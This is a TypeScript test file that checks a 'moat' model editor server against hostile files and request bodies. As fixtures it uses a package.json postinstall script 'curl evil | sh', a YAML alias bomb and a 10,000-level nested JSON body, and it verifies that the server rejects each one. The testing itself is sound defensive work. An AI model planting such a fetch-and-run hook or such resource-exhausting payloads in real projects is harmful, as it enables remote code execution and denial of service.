/**
 * The editor server's API under hostile files and bodies: only moat models are served, the save
 * path refuses what is not a model or cannot be written into safely, and a killed save leaves
 * nothing behind at the next start.
 */
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startServer, type RunningServer } from '../../src/server/server.js'
import { versionOf, Workspace } from '../../src/server/workspace.js'

const MODEL = 'moat: 1\nsystem: {name: Shop}\n'
const PACKAGE_JSON = '{\n  "name": "app",\n  "scripts": {"moat": "moat check", "postinstall": "node setup.js"}\n}\n'
let dir: string
let web: string
let server: RunningServer

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'moat-hostile-'))
  web = mkdtempSync(join(tmpdir(), 'moat-web-'))
  writeFileSync(join(web, 'index.html'), '<title>moat</title>')
  writeFileSync(join(dir, 'shop.yaml'), MODEL)
  writeFileSync(join(dir, 'package.json'), PACKAGE_JSON)
  writeFileSync(join(dir, 'compose.yaml'), 'services:\n  moat: {image: x}\n')
  // A save killed between writing its temporary file and the rename, by a process that is gone.
  writeFileSync(join(dir, '.shop.yaml.999999.1700000000000.tmp'), 'half')
  server = await startServer({ workspace: new Workspace(dir), webRoot: web, host: '127.0.0.1', port: 0, token: 't' })
})
afterAll(async () => {
  await server.close()
  rmSync(dir, { recursive: true, force: true })
  rmSync(web, { recursive: true, force: true })
})

const call = (path: string, init: RequestInit = {}) => fetch(new URL(path, server.url), { ...init, headers: { 'x-moat-token': 't', 'content-type': 'application/json' } })
const put = (name: string, body: unknown) => call(`/api/file?name=${name}`, { method: 'PUT', body: typeof body === 'string' ? body : JSON.stringify(body) })

describe('moat serve on a folder', () => {
  it('cleans the temporary files a killed save left', () => {
    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([])
  })

  it('serves and saves moat models only, never other YAML or JSON of the folder', async () => {
    const session = (await (await call('/api/session')).json()) as { files: string[] }
    expect(session.files).toEqual(['shop.yaml'])
    expect((await call('/api/file?name=package.json')).status).toBe(403)
    expect((await put('package.json', { data: { moat: 1, scripts: { postinstall: 'curl evil | sh' } }, version: versionOf(PACKAGE_JSON) })).status).toBe(403)
    expect(readFileSync(join(dir, 'package.json'), 'utf8')).toBe(PACKAGE_JSON)
    expect((await call('/api/file?name=compose.yaml')).status).toBe(403)
  })

  it('answers 400, writing nothing, for data that is not a model or is absurdly deep', async () => {
    const version = versionOf(MODEL)
    for (const data of [null, [], 'moat: 1', { system: { name: 'No moat key' } }]) {
      const response = await put('shop.yaml', { data, version })
      expect(response.status, JSON.stringify(data)).toBe(400)
    }
    const deep = `{"data": {"moat": 1, "x": ${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}, "version": "${version}"}`
    const response = await put('shop.yaml', deep)
    expect(response.status).toBe(400)
    expect(((await response.json()) as { error: string }).error).toContain('nested more than')
    expect(readFileSync(join(dir, 'shop.yaml'), 'utf8')).toBe(MODEL)
  })

  it('does not save into a file on disk that is an alias bomb or holds several documents', async () => {
    const bomb = `moat: 1\nsystem: {name: Bomb}\na: &a [x, x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}]`).join('\n')}\n`
    const two = `${MODEL}---\nmoat: 1\nsystem: {name: Second}\n`
    for (const [name, text] of [['bomb.yaml', bomb], ['two.yaml', two]] as const) {
      writeFileSync(join(dir, name), text)
      const started = Date.now()
      const response = await put(name, { data: { moat: 1, system: { name: 'Edited' } }, version: versionOf(text) })
      expect(response.status, name).toBe(422)
      expect(Date.now() - started, name).toBeLessThan(5_000)
      expect(readFileSync(join(dir, name), 'utf8'), name).toBe(text)
    }
  })
})
